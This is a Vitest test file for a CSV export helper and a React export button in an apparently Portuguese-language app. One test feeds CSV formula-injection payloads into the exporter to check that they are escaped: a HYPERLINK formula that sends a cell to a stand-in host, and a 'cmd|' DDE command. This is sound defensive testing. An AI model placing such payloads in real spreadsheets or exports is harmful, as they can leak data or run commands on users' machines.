import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { CsvColumn } from './csv';
import { buildCsv, csvFileName } from './csv';
import { DataTableExport } from './data-table-export';

interface Office {
  nome: string;
  cidade: string | null;
  ativo: boolean;
}

const columns: readonly CsvColumn<Office>[] = [
  { header: 'Nome', value: (o) => o.nome },
  { header: 'Cidade', value: (o) => o.cidade },
  { header: 'Ativo', value: (o) => o.ativo },
];

const rows: Office[] = [
  { nome: 'MATRIZ; CENTRO', cidade: 'SÃO PAULO', ativo: true },
  { nome: 'FILIAL "NORTE"', cidade: null, ativo: false },
];

afterEach(cleanup);

describe('buildCsv', () => {
  it('starts with the BOM, separates with ; and quotes what needs it', () => {
    const text = buildCsv(rows, columns);
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text.slice(1).split('\r\n')).toEqual([
      'Nome;Cidade;Ativo',
      '"MATRIZ; CENTRO";SÃO PAULO;Sim',
      '"FILIAL ""NORTE""";;Não',
    ]);
  });

  it('escapes cells a spreadsheet would run as formulas (CSV injection)', () => {
    const cells: CsvColumn<{ v: string }>[] = [{ header: 'Valor', value: (r) => r.v }];
    const out = (v: string) => buildCsv([{ v }], cells).slice(1).split('\r\n')[1];
    expect(out('=HYPERLINK("http://x.test?"&A1;"clique")')).toBe(
      `"'=HYPERLINK(""http://x.test?""&A1;""clique"")"`,
    );
    expect(out('+55 11 9999')).toBe(`"'+55 11 9999"`);
    expect(out("-2+3+cmd|' /C calc'!A0")).toBe(`"'-2+3+cmd|' /C calc'!A0"`);
    expect(out('@SUM(1+1)')).toBe(`"'@SUM(1+1)"`);
    expect(out('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(out('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(out('-R$ 1+A1')).toBe(`"'-R$ 1+A1"`);
    // Text that merely contains the characters later on is left alone.
    expect(out('A=B; C+D')).toBe('"A=B; C+D"');
    expect(out('E-MAIL@CORRETORA')).toBe('E-MAIL@CORRETORA');
  });

  it('keeps negative numbers and money readable as numbers', () => {
    const cells: CsvColumn<{ v: string | number }>[] = [{ header: 'Valor', value: (r) => r.v }];
    const out = (v: string | number) => buildCsv([{ v }], cells).slice(1).split('\r\n')[1];
    expect(out(-5)).toBe('-5');
    expect(out(-1.5)).toBe('-1.5');
    expect(out('-10')).toBe('-10');
    expect(out('-1.234,56')).toBe('-1.234,56');
    expect(out('-R$ 1.234,56')).toBe('-R$ 1.234,56');
  });

  it('writes the header alone when nothing matches', () => {
    expect(buildCsv([], columns).trimEnd()).toBe('\uFEFFNome;Cidade;Ativo');
  });

  it('names the file with the local date', () => {
    expect(csvFileName('tribunais', new Date(2026, 10, 21, 23, 59))).toBe('tribunais-2026-11-21.csv');
  });
});

describe('DataTableExport', () => {
  it('fetches every row, downloads the file and is disabled meanwhile', async () => {
    let resolve: (value: Office[]) => void = () => undefined;
    const fetchAll = vi.fn(() => new Promise<Office[]>((r) => (resolve = r)));
    const createObjectURL = vi.fn((blob: Blob) => {
      expect(blob.type).toContain('text/csv');
      return 'blob:csv';
    });
    URL.createObjectURL = createObjectURL;
    URL.revokeObjectURL = vi.fn();
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);

    render(<DataTableExport label="Escritórios" csv={{ fileName: 'escritorios', fetchAll, columns }} />);
    const button = screen.getByRole('button', { name: /exportar csv/i });
    fireEvent.click(button);
    expect(fetchAll).toHaveBeenCalledOnce();
    expect(await screen.findByText('Exportando…')).toBeTruthy();
    expect(screen.getByRole('button', { name: /exportar csv/i }).hasAttribute('disabled')).toBe(true);

    resolve(rows);
    await waitFor(() => {
      expect(click).toHaveBeenCalledOnce();
    });
    expect(createObjectURL).toHaveBeenCalledOnce();
    expect(screen.getByRole('button', { name: /exportar csv/i }).hasAttribute('disabled')).toBe(false);
    click.mockRestore();
  });

  it('says in Portuguese when the rows could not be fetched', async () => {
    const fetchAll = vi.fn(() => Promise.reject(new TypeError('Failed to fetch')));
    render(<DataTableExport label="Escritórios" csv={{ fileName: 'escritorios', fetchAll, columns }} />);
    fireEvent.click(screen.getByRole('button', { name: /exportar csv/i }));
    expect((await screen.findByRole('alert')).textContent).toBe(
      'Não foi possível exportar o CSV. Verifique a conexão e tente novamente.',
    );
  });
});
